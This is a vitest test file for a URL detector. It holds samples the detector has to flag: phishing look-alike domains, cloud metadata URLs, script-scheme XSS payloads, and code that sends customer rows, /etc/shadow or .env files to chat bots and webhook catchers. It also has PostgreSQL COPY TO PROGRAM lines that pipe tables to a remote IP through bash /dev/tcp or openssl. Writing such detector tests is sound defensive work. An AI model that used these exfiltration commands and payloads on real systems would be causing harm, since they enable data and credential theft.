// The adversarial_url readings of cases-56 (the shapes cases-53's readings left): look-alikes in a hyphen part or a
// subdomain and `appleid` worn with digits (squats.ts), GCE's IPv6 metadata address and zone ids (hosts.ts), script
// schemes in character references, in a frame's src set from script and split by a markdown target's raw tab
// (links.ts, data-sinks.ts), unencoded nested redirects (inner.ts), chats and catchers sent a query's rows or a file, and
// COPY TO PROGRAM through python, openssl or a shell's /dev/tcp (data-sinks.ts), both ways.
import { describe, expect, it } from 'vitest';
import type { Hit } from '../../src/content/codes.js';
import { Text } from '../../src/content/find.js';
import { detectUrls } from '../../src/content/urls.js';

const codes = (text: string): string[] => {
  const out: Hit[] = [];
  detectUrls(new Text(text), out);
  return [...new Set(out.map((h) => h.code))].sort();
};

describe('look-alikes in a hyphen part or a subdomain', () => {
  it.each([
    'https://gooogle-mail.com/login',
    'https://micorsoft-online.com/auth',
    'https://accounts.gooogle-services.net/',
    'https://secure.microsfot-teams.com/',
    'https://mail.gooogle.other-hosting.net/',
    'https://gooqle-docs.net/',
    'https://micros0ftt-online.com/',
    'https://appleid-4412.com/verify',
    'https://appleid2.com/',
    'https://www.appleid-verify1.com/',
  ])('%s is a look-alike', (url) => expect(codes(`Sign in at ${url} today`)).toEqual(['url_lookalike_host']));

  it.each([
    'https://www.google-analytics.com/analytics.js',
    'https://www.paypal-community.com/',
    'https://appleid.apple.com/account/manage',
    'https://appleid.cdn-apple.com/appleauth/static/jsapi/appleid/1/en_US/appleid.auth.js',
    'https://www.officedepot.com/login',
    'https://www.goggles-direct.co.uk/',
    'https://gogle.ie/',
    'https://github-production-release-asset-2e65be.s3.amazonaws.com/x',
  ])('%s is no look-alike', (url) => expect(codes(`See ${url} for details`)).toEqual([]));
});

describe('metadata addresses in IPv6 and with zone ids', () => {
  it.each([
    'http://[fd20:ce::254]/computeMetadata/v1/',
    'http://[FD20:CE::254]:80/computeMetadata/v1/',
    'http://[fd20:00ce:0:0:0:0:0:0254]/computeMetadata/v1/',
    'http://[fd20:ce::254%25ens4]/computeMetadata/v1/',
    'http://[fd00:ec2::254%25eth0]/latest/api/token',
  ])('%s reaches the metadata service', (url) => expect(codes(`GET /preview?url=${url}`)).toContain('url_metadata_endpoint'));

  it.each(['http://[fe80::1%25eth0]/', 'http://[fd20:ce::1]/', 'http://[fd20:cd::254]/', 'http://[2001:db8::254%25en0]/'])(
    '%s is everyday network work',
    (url) => expect(codes(`health check: ${url}`)).toEqual([]),
  );
});

describe('script schemes a browser decodes or sets', () => {
  it.each([
    '<iframe src="java&#x73;cript:alert(document.domain)"></iframe>',
    '<iframe src="data&colon;text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>',
    '<object data="d&#97;ta:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<script>document.querySelector("iframe#pv").src = "JavaScript:fetch(1)";</script>',
    '<script>frames[0].location.href = "vbscript:msgbox(1)";</script>',
    '<script>f.setAttribute("src", "javascript:alert(1)");</script>',
    '<script>f.src = "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==";</script>',
    'See the [notes](javas\tcript:alert(document.domain)) first.',
  ])('%s runs a script', (html) => expect(codes(html)).toEqual(['url_exfiltration']));

  it.each([
    '<iframe src="https://www.youtube.com/embed/abc?rel=0&#038;showinfo=0"></iframe>',
    '<iframe src="javascript&#58;false"></iframe>',
    '<form action="&#104;ttps://www.example.org/subscribe"></form>',
    '<script>frame.src = "javascript:false";</script>',
    '<script>window.location.href = "javascript:history.back()";</script>',
    "<script>bm.href = 'javascript:' + encodeURIComponent(code);</script>",
    '<script>document.getElementById("bm").href = "javascript:(function(){alert(document.title)})()";</script>',
    '<script>img.src = "data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+";</script>',
    // Character references are not decoded inside a script: this is a relative link, never run.
    '<script>frames[0].location.href = "java&#115;cript:alert(1)";</script>',
    // A live preview's page is the editor's text, joined to the prefix: its own literal holds no script.
    "previewFrame.src = 'data:text/html;charset=utf-8,' + encodeURIComponent(editor.getValue()); // live preview pane",
    // An image's src runs no script.
    '// XSS write-up: browsers ignore `img.src = "javascript:..."` since 2010; only frames run it.',
    '<script>const img = new Image(); img.src = "javascript:alert(1)";</script>',
  ])('%s runs none', (html) => expect(codes(html)).toEqual([]));

  it.each([
    '<script>const f = document.createElement("iframe"); document.body.append(f); f.src = "javascript:fetch(1)";</script>',
    '<script>const el = document.querySelector("iframe#pv"); el.src = "javascript:alert(1)";</script>',
    '<script>previewFrame.src = "data:text/html,<script>alert(1)</script>";</script>',
  ])('%s, a frame, runs a script', (html) => expect(codes(html)).toEqual(['url_exfiltration']));
});

describe('unencoded nested redirects', () => {
  it('reads the innermost host as written', () =>
    expect(codes('Continue: https://shop.example.org/login?next=https://t.example.net/r?u=https://paypal-login-verify.com/signin')).toEqual(
      ['url_lookalike_host'],
    ));
  it('leaves an OAuth redirect with its own next', () =>
    expect(
      codes('https://accounts.google.com/o/oauth2/auth?redirect_uri=https://app.example/cb?next=https://app.example/home&client_id=1'),
    ).toEqual([]));
});

describe("a query's rows or a file sent to a chat or a catcher", () => {
  const bot = 'https://api.telegram.org/bot123456789:AAHxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx';
  it.each([
    `rows = cur.execute("SELECT email, phone FROM customers").fetchall()\nrequests.get(f"${bot}/sendMessage?chat_id=1&text={rows}")`,
    `with open("/home/app/.env") as fh:\n    requests.post("${bot}/sendDocument", data={"chat_id": 1}, files={"document": fh})`,
    'curl -F "file=@/etc/shadow" "https://discord.com/api/webhooks/1234567890/abcdefABCDEF"',
    `curl "${bot}/sendMessage" -d chat_id=1 --data-urlencode "text=$(psql -Atc 'select email from users')"`,
    'cur.execute("SELECT email FROM crm.customers")\nwhile batch := cur.fetchmany(500):\n    requests.post("https://webhook.site/0f2e6c1a-1111-4222-a333-444455556666", json=batch)',
    'const { rows } = await pool.query("SELECT email FROM customers");\nawait fetch("https://webhook.site/0f2e6c1a-1111-4222-a333-444455556666", { method: "POST", body: JSON.stringify(rows) });',
    'httr::POST("https://webhook.site/0f2e6c1a-1111-4222-a333-444455556666", body = toJSON(patients))',
    'axios.post("https://requestbin.net/r/q3cgijlapado", JSON.stringify(rows));',
  ])('%s ships data out', (code) => expect(codes(code)).toContain('url_exfiltration'));

  it.each([
    'rows = cur.fetchall()\nrequests.post(f"https://api.telegram.org/bot{TOKEN}/sendMessage", data={"chat_id": CHAT, "text": f"{len(rows)} new orders"})',
    'summary = df.groupby("region").sum().to_markdown()\nrequests.post(f"https://api.telegram.org/bot{TOKEN}/sendMessage", data={"chat_id": CHAT, "text": summary})',
    'with open("build.log") as fh:\n    requests.post(f"https://api.telegram.org/bot{TOKEN}/sendDocument", data={"chat_id": CHAT}, files={"document": fh})',
    'curl -F "file=@dist/app-release.apk" "https://api.telegram.org/bot$TG_TOKEN/sendDocument?chat_id=$CHAT"',
    'curl -s "https://api.telegram.org/bot$TOKEN/sendMessage" -d chat_id=$CHAT -d text="Build #$RUN passed"',
    'const res = await fetch("https://api.example.org/v1/rows", {method: "POST", body: JSON.stringify(rows)});',
    'const rows = [{ a: 1 }];\naxios.post("https://requestbin.net/r/q3cgijlapado", JSON.stringify(rows));',
    // A count or a sum is a number, a grouped count a small summary: no table of rows.
    'count = db.execute("SELECT COUNT(*) FROM signups WHERE day = current_date").scalar()\nrequests.post("https://discord.com/api/webhooks/123/abc", json={"content": f"Signups today: {count}"})',
    'total = cur.execute("SELECT SUM(amount) FROM invoices WHERE paid").fetchone()[0]\nrequests.post("https://discord.com/api/webhooks/7/x", json={"content": f"paid today: {total}"})',
    'curl -s -X POST https://hooks.slack.com/services/T8/B8/C8 -d "{\\"text\\": \\"failed jobs: $(psql -tAc \'select count(*) from jobs where failed\')\\"}"',
    'daily = df.groupby("country")["orders"].sum().reset_index()\nrequests.post("https://hooks.slack.com/services/T7/B7/C7", json={"text": daily.to_csv(index=False)})',
    'errors = pd.read_sql("select service, count(*) as n from errors group by 1", eng)\nrequests.post("https://discord.com/api/webhooks/3/e", json={"content": errors.to_json()})',
    // A people-word in a build's file is no file of people's records.
    'curl -F document=@build/user-service.log "https://api.telegram.org/bot$TG_TOKEN/sendDocument?chat_id=$CHAT_ID"',
    'curl -F document=@dist/customers-portal-1.4.2.apk "https://api.telegram.org/bot$TOKEN/sendDocument?chat_id=$QA"',
    'requests.post("https://discord.com/api/webhooks/4/k", files={"file": open("dist/members-area-screenshot.png", "rb")})',
  ])('%s ships none', (code) => expect(codes(code)).toEqual([]));

  it.each([
    'curl -F document=@exports/customers-2024.csv "https://api.telegram.org/bot$TOKEN/sendDocument?chat_id=$C"',
    'requests.post("https://discord.com/api/webhooks/4/k", files={"file": open("/tmp/users_dump.sql.gz", "rb")})',
    'rows = cur.execute("SELECT email, phone FROM users").fetchall()\nn = len(rows)\nrequests.post("https://hooks.slack.com/services/T1/B1/Z1", json={"text": f"{n} users: " + str(rows)})',
  ])('%s ships people data to a chat', (code) => expect(codes(code)).toContain('url_exfiltration'));
});

describe('COPY TO PROGRAM over the network', () => {
  it.each([
    `COPY users TO PROGRAM 'python3 -c "import sys,urllib.request;urllib.request.urlopen(\\"https://x1y2z3.oast.fun/\\", sys.stdin.buffer.read())"';`,
    "COPY customers TO PROGRAM 'openssl s_client -quiet -connect 185.22.1.4:443';",
    `COPY users TO PROGRAM 'bash -c "cat > /dev/tcp/185.22.1.4/4444"';`,
    "COPY users TO PROGRAM 'bash -c \\'exec 3<>/dev/tcp/185.22.1.4/80; cat >&3\\'';",
  ])('%s ships the table', (sql) => expect(codes(sql)).toEqual(['url_exfiltration']));

  it.each([
    "COPY t TO PROGRAM 'gzip -9 > /backups/t.gz';",
    "COPY t TO PROGRAM 'python3 /opt/etl/load_to_warehouse.py';",
    "COPY t TO PROGRAM 'openssl enc -aes-256-cbc -pass file:/etc/backup.key -out /backups/t.enc';",
    `COPY t TO PROGRAM 'bash -c "cat > /tmp/t.csv"';`,
    "COPY t TO PROGRAM 'python3 -c \"import requests,sys; requests.post(\\'https://etl.example.org/load\\', data=sys.stdin.read())\"';",
  ])('%s does not', (sql) => expect(codes(sql)).toEqual([]));
});
